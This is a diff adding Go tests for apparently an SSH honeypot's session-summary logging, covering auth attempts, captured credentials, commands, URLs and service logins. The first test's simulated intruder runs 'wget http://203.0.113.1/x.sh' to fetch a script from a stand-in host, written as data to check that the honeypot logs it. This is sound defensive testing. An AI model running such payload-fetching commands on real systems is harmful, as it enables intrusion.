@@ -0,0 +1,105 @@
+package main
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/jaksi/sshutils"
+	"golang.org/x/crypto/ssh"
+)
+
+func TestSessionSummary(t *testing.T) {
+	keyFile, err := generateKey(t.TempDir(), ecdsa_key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := &config{}
+	cfg.Server.HostKeys = []string{keyFile}
+	cfg.Auth.PasswordAuth.Enabled = true
+	cfg.Auth.PasswordAuth.Accepted = true
+	cfg.Logging.JSON = true
+	cfg.Logging.SessionSummary = true
+	if err := cfg.setupSSHConfig(); err != nil {
+		t.Fatal(err)
+	}
+	logBuffer := setupLogBuffer(t, cfg)
+
+	listener, err := sshutils.Listen("127.0.0.1:0", cfg.sshConfig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer listener.Close()
+	listener.Listener = trackingListener{listener.Listener}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		conn, err := listener.Accept()
+		if err != nil {
+			t.Error(err)
+			return
+		}
+		handleConnection(conn, cfg)
+	}()
+
+	client, err := ssh.Dial("tcp", listener.Addr().String(), &ssh.ClientConfig{
+		User:            "root",
+		Auth:            []ssh.AuthMethod{ssh.Password("hunter2")},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	session, err := client.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	session.Run("wget http://203.0.113.1/x.sh")
+	client.Close()
+	<-done
+
+	logs := parseJSONLogs(t, logBuffer.String())
+	summaryLog := logs[len(logs)-1]
+	if summaryLog["event_type"] != "session_summary" {
+		t.Fatalf("event_type=%v, want session_summary", summaryLog["event_type"])
+	}
+	event := summaryLog["event"].(map[string]interface{})
+	expectedFields := map[string]interface{}{
+		"auth_attempts":     map[string]interface{}{"none": 1.0, "password": 1.0},
+		"service_logins":    map[string]interface{}{},
+		"credentials":       []interface{}{map[string]interface{}{"method": "password", "user": "root", "password": "hunter2"}},
+		"channels":          map[string]interface{}{"session": 1.0},
+		"commands":          []interface{}{"wget http://203.0.113.1/x.sh"},
+		"urls":              []interface{}{"http://203.0.113.1/x.sh"},
+		"files":             []interface{}{},
+		"disconnect_reason": "client disconnected",
+	}
+	for field, expectedValue := range expectedFields {
+		if !reflect.DeepEqual(event[field], expectedValue) {
+			t.Errorf("%v=%v, want %v", field, event[field], expectedValue)
+		}
+	}
+	if event["bytes_in"].(float64) == 0 || event["bytes_out"].(float64) == 0 || event["duration"].(float64) <= 0 {
+		t.Errorf("event=%v, want traffic and duration", event)
+	}
+	if getConnectionSummary(listener.Addr()) != nil || len(connectionSummaries) != 0 {
+		t.Errorf("summaries=%v, want none left after the connection closed", connectionSummaries)
+	}
+}
+
+func TestSessionSummaryServiceLogins(t *testing.T) {
+	summary := newConnectionSummary()
+	summary.add(passwordAuthLog{authLog: authLog{User: "root"}, Password: "123456"})
+	summary.add(tcpipAuthLog{Service: "ftp", Username: "anonymous", Password: "guest", Accepted: true})
+	summary.add(tcpipAuthLog{Service: "telnet", Username: "admin", Password: "admin"})
+	summary.add(mysqlAuthLog{Username: "root"})
+	entry := summary.logEntry()
+	if !reflect.DeepEqual(entry.AuthAttempts, map[string]int{"password": 1}) {
+		t.Errorf("auth_attempts=%v, want only the SSH auth attempts", entry.AuthAttempts)
+	}
+	if expected := map[string]int{"ftp": 1, "telnet": 1, "mysql": 1}; !reflect.DeepEqual(entry.ServiceLogins, expected) {
+		t.Errorf("service_logins=%v, want %v", entry.ServiceLogins, expected)
+	}
+	if expected := []summaryCredential{{Method: "ftp", User: "anonymous", Password: "guest"}}; !reflect.DeepEqual(entry.Credentials, expected) {
+		t.Errorf("credentials=%v, want %v", entry.Credentials, expected)
+	}
+}